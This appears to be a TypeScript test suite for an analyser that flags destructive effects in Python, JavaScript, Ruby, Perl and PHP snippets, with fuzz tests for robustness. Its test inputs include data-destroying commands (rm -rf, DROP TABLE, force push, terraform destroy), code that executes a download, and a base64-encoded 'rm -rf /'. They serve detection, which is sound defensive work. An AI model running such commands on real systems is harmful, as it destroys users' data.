import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import type { CodeLanguage } from '../../../src/core/analysis.ts';
import { analyseCode } from '../../../src/core/code/analyse.ts';
import { programOf } from '../../../src/core/code/program.ts';
import { place, recordingAnalysis, worldOf } from './recording-analysis.ts';

/** What a text does itself and what it hands on, one line each. */
function run(language: CodeLanguage, text: string, files?: Readonly<Record<string, string>>): string[] {
  const { analysis, handed } = recordingAnalysis(files && worldOf(files));
  const effects = analyseCode(language, text, place, analysis).map((effect) => `${effect.rule} ${effect.resource.name}`.trim());
  const http = handed.http.map((request) => `${request.method} ${request.url}${request.body === undefined ? '' : ` ${request.body}`}`);
  return [...effects, ...handed.shell.map((line) => `$ ${line}`), ...handed.invocations.map((line) => `> ${line}`), ...handed.sql.map(({ text }) => `sql ${text}`), ...http, ...handed.code.map(({ text }) => `code ${text}`)];
}

const caught: readonly (readonly [language: CodeLanguage, text: string, expected: readonly string[]])[] = [
  ['python', 'import shutil; shutil.rmtree("data")', ['code/delete data']],
  ['python', 'import shutil as s\ns.rmtree("data", ignore_errors=True)', ['code/delete data']],
  ['python', 'from shutil import rmtree as gone\ngone("data")', ['code/delete data']],
  ['python', 'from os import (\n  path,\n  remove,\n)\nremove("a.txt")', ['code/delete a.txt']],
  ['python', 'import os\nos.unlink("a.txt")', ['code/delete a.txt']],
  ['python', 'from pathlib import Path\nPath("a.txt").unlink(missing_ok=True)', ['code/delete a.txt']],
  ['python', 'p = Path("data") / "a.txt"\np.unlink()', ['code/delete data/a.txt']],
  ['python', 'for p in Path("data").glob("*.csv"):\n    p.unlink()', ['code/delete data/*.csv']],
  ['python', 'for name in os.listdir("data"):\n    os.remove(os.path.join("data", name))', ['code/delete data/*']],
  ['python', 'for d in ["data", "models"]:\n    shutil.rmtree(d)', ['code/delete data, models']],
  ['python', 'BASE = "data"\nshutil.rmtree(f"{BASE}/old")', ['code/delete data/old']],
  ['python', 'shutil.rmtree(os.path.expanduser("~/work"))', ['code/delete ~/work']],
  ['python', 'def clean(d):\n    shutil.rmtree(d)\nclean("data")', ['code/delete data']],
  ['python', 'shutil.rmtree(sys.argv[1])', ['code/delete sys.argv[1]']],
  ['python', 'import os; os.system("rm -rf data")', ['$ rm -rf data']],
  ['python', 'import os; os.system("rm -rf " + "data")', ['$ rm -rf data']],
  ['python', 'subprocess.run("rm -rf data", shell=True)', ['$ rm -rf data']],
  ['python', 'subprocess.run(["git", "push", "--force", branch])', ['> git push --force branch']],
  ['python', 'cmd = ["rm", "-rf", "data"]\nsubprocess.check_call(cmd, cwd="/project")', ['> rm -rf data']],
  ['python', 'subprocess.run("terraform destroy".split())', ['> terraform destroy']],
  ['python', 'import requests\nrequests.delete("https://api.example.com/v1/users/7", headers={"a": "b"})', ['DELETE https://api.example.com/v1/users/7']],
  ['python', 'query = """mutation { volumeDelete(volumeId: "v") }"""\nrequests.post(URL, json={"query": query})', ['POST ${URL} {"query":"mutation { volumeDelete(volumeId: \\"v\\") }"}']],
  ['python', 'req = urllib.request.Request("https://a.example/x", method="DELETE")', ['DELETE https://a.example/x']],
  ['python', 'session.delete(f"https://a.example/{x}")', ['DELETE https://a.example/{x}']],
  ['python', 'cur.execute("DROP TABLE users")', ['sql DROP TABLE users']],
  ['python', 'cur.executescript("""\nDROP TABLE users;\n""")', ['sql \nDROP TABLE users;\n']],
  ['python', 'conn.execute(text("DELETE FROM users"))', ['sql DELETE FROM users']],
  ['python', 'User.objects.all().delete()', ['code/data User']],
  ['python', 'from sqlalchemy import MetaData\nBase.metadata.drop_all(engine)', ['code/data metadata']],
  ['python', 'import boto3\ns3.delete_bucket(Bucket="x")', ['code/cloud']],
  ['python', 'exec(requests.get("https://a.example/x.py").text)', ['code/downloaded', 'GET https://a.example/x.py']],
  ['python', 'import base64; exec(base64.b64decode("b3Muc3lzdGVtKCdybSAtcmYgLycp"))', ["code os.system('rm -rf /')"]],
  ['python', 'x = f"{os.system(\'rm -rf data\')}"', ["code os.system('rm -rf data')"]],
  ['javascript', "require('fs').rmSync('data', { recursive: true, force: true })", ['code/delete data']],
  ['javascript', "const fs = require('node:fs/promises'); await fs.rm('data', { recursive: true })", ['code/delete data']],
  ['javascript', "import { rmSync as gone } from 'fs'; gone('data', {recursive: true})", ['code/delete data']],
  ['javascript', "const { rm } = require('fs').promises; rm('data', {recursive: true})", ['code/delete data']],
  ['javascript', "fs.unlinkSync('a.txt')", ['code/delete a.txt']],
  ['javascript', "const dir = path.join('data', 'old'); fs.rmSync(dir, {recursive: true})", ['code/delete data/old']],
  ['javascript', "for (const f of ['a.txt', 'b.txt']) fs.unlinkSync(f)", ['code/delete a.txt, b.txt']],
  ['javascript', "['a.txt', 'b.txt'].forEach(f => fs.unlinkSync(f))", ['code/delete a.txt, b.txt']],
  ['javascript', "import rimraf from 'rimraf'; rimraf.sync('data')", ['code/delete data']],
  ['javascript', "require('child_process').execSync('rm -rf data')", ['$ rm -rf data']],
  ['javascript', "const { execSync: x } = require('child_process'); x('rm -rf data')", ['$ rm -rf data']],
  ['javascript', "const run = promisify(exec); await run('rm -rf data')", ['$ rm -rf data']],
  ['javascript', "execSync(`rm -rf ${dir}`)", ['$ rm -rf $1']],
  ['javascript', "execSync(`psql -c 'DROP TABLE ${t}'`)", [`$ psql -c 'DROP TABLE '"$1"''`]],
  ['javascript', "spawn('rm', ['-rf', 'data'])", ['> rm -rf data']],
  ['javascript', "spawn('rm -rf data', { shell: true })", ['$ rm -rf data']],
  ['javascript', "await $`rm -rf data`", ['$ rm -rf data']],
  ['javascript', "fetch('https://a.example/v1/x', { method: 'DELETE' })", ['DELETE https://a.example/v1/x']],
  ['javascript', "axios.post('https://a.example/graphql', { query: 'mutation { volumeDelete }' })", ['POST https://a.example/graphql {"query":"mutation { volumeDelete }"}']],
  ['javascript', "fetch(u, { method: 'POST', body: JSON.stringify({ query: `mutation { volumeDelete(volumeId: \"v\") }` }) })", ['POST ${u} {"query":"mutation { volumeDelete(volumeId: \\"v\\") }"}']],
  ['javascript', "await prisma.$executeRawUnsafe('DROP TABLE users')", ['sql DROP TABLE users']],
  ['javascript', "await sql`DELETE FROM users`", ['sql DELETE FROM users']],
  ['javascript', "await pool.query('TRUNCATE users')", ['sql TRUNCATE users']],
  ['javascript', 'await prisma.user.deleteMany({})', ['code/data user']],
  ['javascript', 'await prisma.user.deleteMany({ where: {} })', ['code/data user']],
  ['javascript', 'mongoose.connection.dropDatabase()', ['code/data connection']],
  ['javascript', 'await sequelize.sync({ force: true })', ['code/data sequelize']],
  ['javascript', "import { DataSource } from 'typeorm';\nawait dataSource.synchronize(true)", ['code/data dataSource']],
  ['javascript', "await client.indices.delete({ index: 'orders' })", ['code/data indices']],
  ['javascript', "const algolia = algoliasearch(a, b); await algolia.clearObjects('products')", ['code/data products']],
  ['javascript', "await kafka.admin().deleteTopics({ topics: ['orders'] })", ['code/data kafka']],
  ['python', "import chromadb\nchromadb.PersistentClient('x').delete_collection('docs')", ['code/data docs']],
  ['python', "es.delete_by_query(index='orders', query={'match_all': {}})", ['code/data es']],
  ['python', "import pika\nchannel.queue_delete(queue='orders')", ['code/data channel']],
  ['javascript', "const re = /rm '/; fs.unlinkSync('a.txt')", ['code/delete a.txt']],
  ['ruby', "require 'fileutils'\nFileUtils.rm_rf('data')", ['code/delete data']],
  ['ruby', 'FileUtils.rm_rf "data"', ['code/delete data']],
  ['ruby', 'FileUtils.rm_rf %w[data models]', ['code/delete data, models']],
  ['ruby', 'File.delete("a.txt") if File.exist?("a.txt")', ['code/delete a.txt']],
  ['ruby', 'Dir.glob("*.csv").each { |f| File.delete(f) }', ['code/delete *.csv']],
  ['ruby', 'system "rm -rf data"', ['$ rm -rf data']],
  ['ruby', 'system("rm", "-rf", "data")', ['> rm -rf data']],
  ['ruby', '`rm -rf data`', ['$ rm -rf data']],
  ['ruby', 'dir = "data"\nputs %x(rm -rf #{dir})', ['$ rm -rf data']],
  ['ruby', 'ActiveRecord::Base.connection.execute("DROP TABLE users")', ['sql DROP TABLE users']],
  ['ruby', 'User.delete_all', ['code/data User']],
  ['ruby', 'ActiveRecord::Base.connection.execute(<<~SQL)\n  DROP TABLE users\nSQL\n', ['sql   DROP TABLE users\n']],
  ['perl', 'unlink "a.txt";', ['code/delete a.txt']],
  ['perl', 'unlink glob("*.csv");', ['code/delete *.csv']],
  ['perl', 'use File::Path qw(rmtree); rmtree("data");', ['code/delete data']],
  ['perl', 'my $d = "data"; system("rm -rf $d");', ['$ rm -rf data']],
  ['perl', 'my $out = qx{rm -rf data};', ['$ rm -rf data']],
  ['perl', '$dbh->do("DROP TABLE users");', ['sql DROP TABLE users']],
  ['php', 'unlink("a.txt");', ['code/delete a.txt']],
  ['php', '<?php exec("rm -rf data"); ?> text', ['$ rm -rf data']],
  ['php', '$d = "data"; shell_exec("rm -rf {$d}/x");', ['$ rm -rf data/x']],
  ['php', '$r = `rm -rf data`;', ['$ rm -rf data']],
  ['php', '$pdo->exec("DROP TABLE users");', ['sql DROP TABLE users']],
  ['php', 'DB::table("users")->truncate();', ['code/data DB']],
];
for (const [language, text, expected] of caught) {
  test(`${language} holds ${text.slice(0, 90)}`, () => assert.deepEqual(run(language, text), expected));
}

const passes: readonly (readonly [language: CodeLanguage, text: string])[] = [
  ['javascript', 'await sequelize.sync()'], ['javascript', "import x from 'sequelize';\nawait db.sync({ force: false })"], ['javascript', 'fs.fsyncSync(fd); queue.sync(true)'], ['javascript', "await client.indices.create({ index: 'orders' })"], ['javascript', "map.deleteIndex('a')"], ['python', "channel.queue_declare(queue='orders')"],
  ['python', 'print("shutil.rmtree(\'data\')")'],
  ['python', '# shutil.rmtree("data")\nx = 1'],
  ['python', '"""\nos.system("rm -rf /")\n"""'],
  ['python', 'state, _ = env.reset()\nlist.remove(x)\nd.pop("a")'],
  ['python', 'df = df.drop(columns=["a"])'],
  ['python', 'def remove(path):\n    pass'],
  ['python', 'def clean(d):\n    shutil.rmtree(d)'],
  ['python', 'import tempfile, shutil\nd = tempfile.mkdtemp()\nprint(d)'],
  ['python', 'subprocess.run(cmd, check=True)'],
  ['python', 'session.delete(user)\nsession.commit()'],
  ['python', 'client.delete("/users/1")'],
  ['python', 'text = "DROP TABLE users"\nprint(text)'],
  ['python', 'open("new.txt", "w").write("x")'],
  ['javascript', "console.log(\"fs.rmSync('data')\")"],
  ['javascript', "// fs.rmSync('data')\n/* execSync('rm -rf /') */"],
  ['javascript', 'const m = /x/.exec(text); re.exec(y)'],
  ['javascript', 'map.delete(key); set.clear(); cache.delete("a")'],
  ['javascript', 'execSync(command)'],
  ['javascript', 'await prisma.user.deleteMany({ where: { id: 4 } })'],
  ['javascript', 'array.query("not sql at all")'],
  ['javascript', "const a = b / c; const d = 'e' / 2"],
  ['ruby', 'puts "FileUtils.rm_rf(\'data\')"'],
  ['ruby', 'User.where(id: 4).delete_all'],
  ['ruby', '# system("rm -rf /")\nx = %w[a b]'],
  ['perl', 'print "unlink a"; # unlink "b";'],
  ['perl', '$x =~ s/unlink/rm/g; my %h = (a => 1); delete $h{a};'],
  ['php', 'echo "unlink(\'a\')"; // exec("rm -rf /");'],
  ['php', 'unset($a["b"]); $repo->delete($user);'],
];
for (const [language, text] of passes) test(`${language} passes ${text.slice(0, 90)}`, () => assert.deepEqual(run(language, text), []));

test('replacing a file that is there is an effect, writing a new one is none', () => {
  const files = { '/project/a.py': 'x = 1' };
  const writes = ['open("a.py", "w").write(s)', 'Path("a.py").write_text(s)', 'open("b.py", "w").write(s)', 'open("a.py").read()', 'open("a.py", "a").write(s)'];
  assert.deepEqual(writes.map((text) => run('python', text, files)), [['code/overwrite a.py'], ['code/overwrite a.py'], [], [], []]);
});

test('a change of folder counts for what follows', () => {
  assert.deepEqual(run('python', 'os.chdir("sub")\nos.remove("a.txt")', { '/project/sub/a.txt': 'x' }), ['code/delete sub/a.txt']);
});

const languages: readonly CodeLanguage[] = ['python', 'javascript', 'ruby', 'perl', 'php'];
const pieces = ['"', "'", '`', '"""', "'''", '${', '#{', '{', '}', '(', ')', '[', ']', '/', '//', '/*', '*/', '#', '\n', '\\', '<<EOS\n', '<<<X\n', '%w[', '%x(', 'qx{', 'f"', 'r"', 'x = ', 'def f(a):', 'for x in y:', 'os.system(', 'rm', ' ', '=begin\n', '?>', '<?php', '.', '->', '::', '$x', '@y', ',', ';', '=>'];
const codeText = fc.oneof(fc.string(), fc.array(fc.constantFrom(...pieces)).map((parts) => parts.join('')));

test('tokens lie in the text, whatever the text', () => {
  fc.assert(
    fc.property(codeText, fc.constantFrom(...languages), (text, language) => {
      for (const token of programOf(language, text).tokens) assert.ok(token.start >= 0 && token.end >= token.start && token.end <= text.length);
    }),
  );
});

test('never throws and costs in proportion, whatever the text', () => {
  fc.assert(
    fc.property(codeText, fc.constantFrom(...languages), (text, language) => {
      const { analysis, steps } = recordingAnalysis();
      analyseCode(language, text, place, analysis);
      assert.ok(steps() <= 10 + 10 * text.length);
    }),
  );
});
